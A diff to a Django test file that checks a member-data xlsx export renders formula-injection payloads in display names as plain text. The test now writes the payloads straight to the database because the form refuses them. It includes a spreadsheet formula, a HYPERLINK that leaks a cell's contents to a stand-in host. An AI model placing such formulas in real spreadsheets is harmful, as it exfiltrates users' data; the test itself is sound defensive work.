@@ -21,13 +21,13 @@ pytestmark = pytest.mark.django_db
 def _apply(client, n, display_name):
     dob = timezone.localdate().replace(year=timezone.localdate().year - 13) - timedelta(days=30)
     response = client.post("/anggota/daftar/", {
-        "full_name": f"Anak Uji {n}", "display_name": display_name, "date_of_birth": dob.isoformat(), "gender": "P",
+        "full_name": f"Anak Uji {chr(65 + n)}", "display_name": display_name, "date_of_birth": dob.isoformat(), "gender": "P",
         "kecamatan": "64.71.01", "kelurahan": "64.71.01.1001", "school": "SMPN 1 Balikpapan",
         "guardian_name": "Ratna", "guardian_relationship": "ibu", "guardian_email": f"wali{n}@example.test",
         "guardian_phone": "0812-1", "guardian_language": "id", "email": "", "username": f"anak-uji-{n}",
         "password1": "Rahasia-Sekali-9", "password2": "Rahasia-Sekali-9", "agreement": "on",
-    })
-    assert response.status_code == 302, display_name
+    }, REMOTE_ADDR=f"10.0.{n}.1")  # one phone each (the form allows a few a minute per address)
+    assert response.status_code == 302, (display_name, response.context and response.context["form"].errors)
     client.logout()
     return Member.objects.get(user__username=f"anak-uji-{n}")
 
@@ -35,9 +35,16 @@ def _apply(client, n, display_name):
 def test_kla_workbook_holds_no_formula_and_keeps_negative_figures(client):
     city = build_city()
     consent_texts()
-    applied = [_apply(client, n, payload) for n, payload in enumerate(PAYLOADS)]
-    names = {m.display_name for m in applied}
-    assert len(names) == len(PAYLOADS) - 2  # the form trims " =1" and "\t=1" to "=1", as "\r=1"
+    # The application form now refuses such names (issue 25 §4: names are letters and name
+    # punctuation), so they reach the database only another way (an import, the paper register,
+    # a record from before the rule): the writer must hold on its own.
+    refused = client.post("/anggota/daftar/", {"display_name": PAYLOADS[0], "full_name": "Anak Uji"})
+    assert refused.status_code in (200, 429) and "display_name" in refused.context["form"].errors
+    applied = [_apply(client, n, f"Anak {chr(65 + n)}") for n in range(len(PAYLOADS))]
+    for member, payload in zip(applied, PAYLOADS, strict=True):
+        Member.objects.filter(pk=member.pk).update(display_name=payload)
+        member.display_name = payload
+    names = set(PAYLOADS)
     pembina = staff("pembina", city["forums"]["city"], "pembina")
     for member in applied:  # the guardian agrees from the link, the pembina approves
         token = services.new_token()
@@ -67,7 +74,8 @@ def test_kla_workbook_holds_no_formula_and_keeps_negative_figures(client):
     assert response.status_code == 200
     cells = xlsx_cells(body(response))
     values = {c.value for c in cells}
-    assert {shown_as_text(name) for name in names} <= values
+    # (an XML reader turns a carriage return into a line feed: openpyxl reads "\r=1" back as "\n=1")
+    assert {shown_as_text(name).replace("\r", "\n") for name in names} <= values
     assert shown_as_text('=HYPERLINK("http://x?leak="&A1,"klik")') in values
 
     def figure(sheet, label):
